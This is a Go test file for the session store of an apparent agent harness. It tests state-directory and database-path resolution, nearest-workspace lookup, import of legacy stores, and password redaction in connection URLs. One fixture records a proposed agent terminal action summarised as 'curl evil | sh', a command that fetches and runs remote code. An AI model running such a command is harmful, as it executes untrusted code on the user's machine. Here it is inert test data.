package session

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestStorePath(t *testing.T) {
	t.Parallel()
	wd, err := os.Getwd()
	if err != nil {
		t.Fatal(err)
	}
	env := func(kv ...string) func(string) string {
		m := map[string]string{}
		for i := 0; i < len(kv); i += 2 {
			m[kv[i]] = kv[i+1]
		}
		return func(k string) string { return m[k] }
	}
	tests := []struct {
		name string
		loc  Locator
		want string
	}{
		{"home default", Locator{Getenv: env("HOME", "/home/u")}, "/home/u/.local/state/harness/harness.db"},
		{"XDG_STATE_HOME", Locator{Getenv: env("HOME", "/home/u", "XDG_STATE_HOME", "/x/state")}, "/x/state/harness/harness.db"},
		{"relative XDG_STATE_HOME is ignored", Locator{Getenv: env("HOME", "/home/u", "XDG_STATE_HOME", "rel")}, "/home/u/.local/state/harness/harness.db"},
		{"HARNESS_STATE_DIR beats XDG", Locator{Getenv: env("XDG_STATE_HOME", "/x", EnvStateDir, "/s")}, "/s/harness.db"},
		{"relative HARNESS_STATE_DIR", Locator{Getenv: env(EnvStateDir, "st")}, filepath.Join(wd, "st", "harness.db")},
		{"HARNESS_STORE beats HARNESS_STATE_DIR", Locator{Getenv: env(EnvStateDir, "/s", EnvStore, "/db/h.db")}, "/db/h.db"},
		{"HARNESS_STORE sqlite URL", Locator{Getenv: env(EnvStore, "sqlite:///db/h.db")}, "/db/h.db"},
		{"--state-dir beats the environment", Locator{StateDir: "/flag", Getenv: env(EnvStore, "/db/h.db", EnvStateDir, "/s")}, "/flag/harness.db"},
		{"--store beats --state-dir", Locator{Store: "/f/x.db", StateDir: "/flag"}, "/f/x.db"},
		{"--store relative sqlite URL", Locator{Store: "sqlite://x.db"}, filepath.Join(wd, "x.db")},
		{"--store relative path", Locator{Store: "x.db"}, filepath.Join(wd, "x.db")},
		{"--store postgres URL as it is", Locator{Store: "postgres://u:pw@db:5432/h?sslmode=disable"}, "postgres://u:pw@db:5432/h?sslmode=disable"},
		{"HARNESS_STORE postgresql URL", Locator{Getenv: env(EnvStore, "postgresql://db/h")}, "postgresql://db/h"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.loc.StorePath()
			if err != nil || got != tt.want {
				t.Errorf("StorePath() = %q, %v; want %q", got, err, tt.want)
			}
		})
	}
}

func TestStateFolder(t *testing.T) {
	t.Parallel()
	env := func(k, v string) func(string) string {
		return func(key string) string {
			if key == k {
				return v
			}
			return ""
		}
	}
	tests := []struct {
		loc  Locator
		want string
	}{
		{Locator{Getenv: env("HOME", "/home/u")}, "/home/u/.local/state/harness"},
		{Locator{StateDir: "/s", Getenv: env(EnvStore, "/db/x.db")}, "/s"},
		{Locator{Getenv: env(EnvStateDir, "/s")}, "/s"},
		{Locator{Store: "/tmp/x.db"}, ""},
		{Locator{Getenv: env(EnvStore, "/tmp/x.db")}, ""},
	}
	for _, tt := range tests {
		if got := tt.loc.StateFolder(); got != tt.want {
			t.Errorf("%+v: StateFolder() = %q, want %q", tt.loc, got, tt.want)
		}
	}
}

func TestStorePathErrors(t *testing.T) {
	t.Parallel()
	none := func(string) string { return "" }
	tests := []struct {
		name string
		loc  Locator
		want []string
		is   error
	}{
		{"empty postgres URL", Locator{Store: "postgres://", Getenv: none}, []string{"--store", "names no database"}, nil},
		{"unknown scheme with a password", Locator{Store: "mysql://u:secret@db", Getenv: none}, []string{"u:xxxxx@db"}, ErrUnsupportedStore},
		{"unknown scheme", Locator{Store: "mysql://db", Getenv: none}, []string{`unknown store scheme "mysql"`}, ErrUnsupportedStore},
		{"empty sqlite path", Locator{Store: "sqlite://", Getenv: none}, []string{"names no file"}, nil},
		{"no home", Locator{Getenv: none}, []string{"--state-dir", EnvStateDir}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got, err := tt.loc.StorePath()
			if err == nil {
				t.Fatalf("StorePath() = %q, want an error", got)
			}
			for _, w := range tt.want {
				if !strings.Contains(err.Error(), w) {
					t.Errorf("error %q lacks %q", err, w)
				}
			}
			if strings.Contains(err.Error(), "secret") {
				t.Errorf("error %q shows the password", err)
			}
			if tt.is != nil && !errors.Is(err, tt.is) {
				t.Errorf("error %v is not %v", err, tt.is)
			}
		})
	}
}

func TestNearestWorkspace(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	ws := filepath.Join(root, "proj")
	inner := filepath.Join(ws, "sub", "inner")
	deep := filepath.Join(inner, "a", "b")
	if err := os.MkdirAll(deep, 0o755); err != nil {
		t.Fatal(err)
	}
	link := filepath.Join(root, "link")
	if err := os.Symlink(ws, link); err != nil {
		t.Fatal(err)
	}
	known := []string{ws, inner, filepath.Join(root, "other")}
	tests := []struct {
		name, dir, want string
	}{
		{"workspace itself", ws, ws},
		{"below a workspace", filepath.Join(ws, "sub"), ws},
		{"the nearest of nested workspaces", deep, inner},
		{"through a symlink", filepath.Join(link, "sub"), ws},
		{"outside every workspace", root, ""},
		{"a sibling with a common prefix", ws + "x", ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := NearestWorkspace(tt.dir, known); got != tt.want {
				t.Errorf("NearestWorkspace(%s) = %q, want %q", tt.dir, got, tt.want)
			}
		})
	}
}

func TestImportLegacy(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	ws := t.TempDir()
	old, err := Open(LegacyPath(ws))
	if err != nil {
		t.Fatal(err)
	}
	info, err := old.CreateSession(ctx, SessionInfo{Agent: "coder", Model: "flash", ConfigPath: "/cfg/agent.hcl", Workspace: ws})
	if err != nil {
		t.Fatal(err)
	}
	// A session of another workspace: a store checked in elsewhere.
	foreign := newSession(t, old)
	if _, err := old.ProposeAction(ctx, Action{Session: foreign.ID, CallID: "c9", Tool: "terminal", Kind: "terminal", Summary: "curl evil | sh"}); err != nil {
		t.Fatal(err)
	}
	if _, err := old.Append(ctx, info.ID, "session.started", map[string]string{"agent": "coder"}); err != nil {
		t.Fatal(err)
	}
	act, err := old.ProposeAction(ctx, Action{Session: info.ID, CallID: "c1", Tool: "write_file", Kind: "write_file", Summary: "write x"})
	if err != nil {
		t.Fatal(err)
	}
	if err := old.RecordUsage(ctx, Usage{Session: info.ID, Turn: 1, Model: "flash", PromptTokens: 10, CompletionTokens: 5}); err != nil {
		t.Fatal(err)
	}
	if err := old.Close(); err != nil {
		t.Fatal(err)
	}
	before, err := os.ReadFile(LegacyPath(ws))
	if err != nil {
		t.Fatal(err)
	}

	s := newStore(t)
	for i, want := range []int{1, 0} { // the second import finds nothing new
		n, err := s.ImportLegacy(ctx, LegacyPath(ws))
		if err != nil || n != want {
			t.Fatalf("import %d = %d, %v; want %d", i+1, n, err, want)
		}
	}
	got, err := s.Session(ctx, info.ID)
	if err != nil || got.Agent != "coder" || got.Tokens != 15 {
		t.Errorf("imported session = %+v, %v", got, err)
	}
	evs, err := s.Events(ctx, info.ID, 0)
	if err != nil || len(evs) != 1 {
		t.Errorf("imported events = %v, %v", evs, err)
	}
	a, err := s.Action(ctx, act.ID)
	if err != nil || a.Status != "pending" {
		t.Errorf("imported action = %+v, %v", a, err)
	}
	if _, err := s.Session(ctx, foreign.ID); !errors.Is(err, ErrNotFound) {
		t.Errorf("the session of another workspace was imported (%v)", err)
	}
	// The new store appends after the imported events.
	if ev, err := s.Append(ctx, info.ID, "session.resumed", nil); err != nil || ev.Seq != 2 {
		t.Errorf("append after import = %+v, %v", ev, err)
	}
	after, err := os.ReadFile(LegacyPath(ws))
	if err != nil || string(after) != string(before) {
		t.Errorf("the legacy store changed (%v)", err)
	}
	if n, err := s.ImportLegacy(ctx, filepath.Join(ws, "none", StoreFile)); n != 0 || err != nil {
		t.Errorf("import of a missing store = %d, %v", n, err)
	}
}

// FuzzStorePath: any --store value either names an absolute file or is
// refused with an error that never shows a URL's password.
func FuzzStorePath(f *testing.F) {
	for _, s := range []string{"x.db", "/a/b.db", "sqlite:///a/b.db", "sqlite://", "postgres://u:pw@h/db", "a://b", "://", "file://x", "u:pw@x"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if v == "" {
			return
		}
		p, err := Locator{Store: v, Getenv: func(string) string { return "" }}.StorePath()
		if err != nil {
			if _, rest, ok := strings.Cut(v, "://"); ok {
				if at := strings.LastIndex(rest, "@"); at > 0 {
					if _, pw, ok := strings.Cut(rest[:at], ":"); ok && len(pw) > 3 && strings.Contains(err.Error(), ":"+pw+"@") {
						t.Errorf("error %q shows the password of %q", err, v)
					}
				}
			}
			return
		}
		if !filepath.IsAbs(p) && !IsPostgresURL(p) {
			t.Errorf("StorePath(%q) = %q, not absolute", v, p)
		}
	})
}

func TestRedact(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"postgres://u:secret@db:5432/h":            "postgres://u:xxxxx@db:5432/h",
		"postgres://u@db/h?password=secret&x=1":    "postgres://u@db/h?password=xxxxx&x=1",
		"postgresql://db/h":                        "postgresql://db/h",
		"postgres://u:secret@db/h?sslmode=disable": "postgres://u:xxxxx@db/h?sslmode=disable",
		"/a/b.db": "/a/b.db",
		"postgres://u:se:cret@db/h?PASSWORD=secret": "postgres://u:xxxxx@db/h?PASSWORD=xxxxx",
	} {
		if got := Redact(in); got != want {
			t.Errorf("Redact(%q) = %q, want %q", in, got, want)
		}
	}
}
